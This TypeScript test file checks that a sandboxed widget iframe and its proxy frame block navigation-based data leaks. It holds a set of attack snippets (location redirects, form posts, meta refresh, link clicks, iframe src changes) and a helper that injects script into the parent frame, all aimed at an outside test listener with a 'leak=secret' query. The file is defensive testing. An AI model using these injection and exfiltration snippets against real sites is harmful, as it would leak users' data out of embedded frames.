import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Page } from "@playwright/test";
import { innerSandbox } from "./proxy-helpers.js";
import { type HarnessMessage, type ProxyHarness, startProxyHarness } from "./test-support/proxy-harness.js";

describe("the widget frame's sandbox", () => {
  it("never lets the widget navigate the top window or open windows, whatever the host asks", () => {
    const fallback = "allow-scripts allow-same-origin allow-forms";
    expect(innerSandbox(undefined, fallback)).toBe(fallback);
    expect(
      innerSandbox("allow-scripts allow-top-navigation allow-popups allow-popups-to-escape-sandbox", fallback),
    ).toBe("allow-scripts");
    expect(innerSandbox("allow-scripts ALLOW-TOP-NAVIGATION-BY-USER-ACTIVATION allow-forms", fallback)).toBe(
      "allow-scripts allow-forms",
    );
  });
});

/**
 * Ways script in the widget (or, through it, in its same-origin proxy frame) can try to navigate a
 * frame to a URL carrying data: `%URL%` is the outside listener with this attempt's path.
 */
const ATTEMPTS: Record<string, string> = {
  "proxy location": `inProxy('location.href = "%URL%"');`,
  "proxy form post": `inProxy('const form = document.createElement("form"); form.method = "post"; form.action = "%URL%"; const field = document.createElement("input"); field.name = "leak"; field.value = "secret"; form.append(field); document.body.append(form); form.submit();');`,
  "proxy meta refresh": `inProxy('const meta = document.createElement("meta"); meta.httpEquiv = "refresh"; meta.content = "0;url=%URL%"; document.head.append(meta);');`,
  "proxy link click": `inProxy('const link = document.createElement("a"); link.href = "%URL%"; document.body.append(link); link.click();');`,
  "widget location": `location.href = "%URL%";`,
  "widget form post": `const form = document.createElement("form"); form.method = "post"; form.action = "%URL%"; document.body.append(form); form.submit();`,
  "widget frame from the proxy": `inProxy('document.querySelector("iframe").src = "%URL%"');`,
};

/** A widget that runs `attack` after a moment, with `inProxy(code)` to run code in its proxy's realm. */
function attacker(attack: string, url: string): string {
  return `<!doctype html><html><body><p>attacker</p><script>
function inProxy(code) {
  const script = parent.document.createElement("script");
  script.textContent = code;
  parent.document.body.append(script);
}
setTimeout(() => { ${attack.replaceAll("%URL%", url)} }, 50);
</script></body></html>`;
}

/** A report of the proxy's, by kind (`navigation-blocked`, `csp-violation`, `widget-reloaded`). */
const reportsOf = (messages: HarnessMessage[], kind: string) =>
  messages.filter((message) => (message.data as { __hostbridgeSandbox?: unknown })?.__hostbridgeSandbox === kind);

describe("the proxy's own navigation limits, in Chromium, without the dev host page's frame-src", () => {
  let harness: ProxyHarness;
  const pages: Page[] = [];
  beforeAll(async () => {
    harness = await startProxyHarness();
  });
  afterAll(async () => {
    await Promise.all(pages.map((page) => page.close()));
    await harness?.close();
  });

  it.each(Object.keys(ATTEMPTS))("%s: nothing reaches an outside listener", async (name) => {
    const path = `/${name.replaceAll(" ", "-").replaceAll("'", "")}`;
    const url = `${harness.outside.origin}${path}?leak=secret`;
    const page = await harness.open([{ frame: "main", html: attacker(ATTEMPTS[name] ?? "", url) }], {
      pagePolicy: false,
    });
    pages.push(page);
    // Either the outside listener got the request, or the proxy refused the navigation and said so
    // (a navigation-blocked report, or a CSP report of the widget's policy).
    await expect
      .poll(
        async () =>
          harness.outside.hits.some((hit) => hit.startsWith(path)) ||
          [
            ...reportsOf(await harness.messages(page), "navigation-blocked"),
            ...reportsOf(await harness.messages(page), "csp-violation"),
          ].length > 0,
        { timeout: 30_000 },
      )
      .toBe(true);
    expect(harness.outside.hits.filter((hit) => hit.startsWith(path))).toEqual([]);
  });

  it("still lets the widget route in its own document and reload itself", async () => {
    const widget = `<!doctype html><html><body><script>
history.pushState({}, "", "#/details");
location.hash = "#/other";
parent.postMessage({ routed: location.hash }, "*");
setTimeout(() => location.reload(), 50);
</script></body></html>`;
    const page = await harness.open([{ frame: "main", html: widget }], { pagePolicy: false });
    pages.push(page);
    await expect
      .poll(async () => reportsOf(await harness.messages(page), "widget-reloaded").length, { timeout: 30_000 })
      .toBe(1);
    const messages = await harness.messages(page);
    expect(messages.map((message) => message.data)).toContainEqual({ routed: "#/other" });
    expect(reportsOf(messages, "navigation-blocked")).toEqual([]);
  });
});
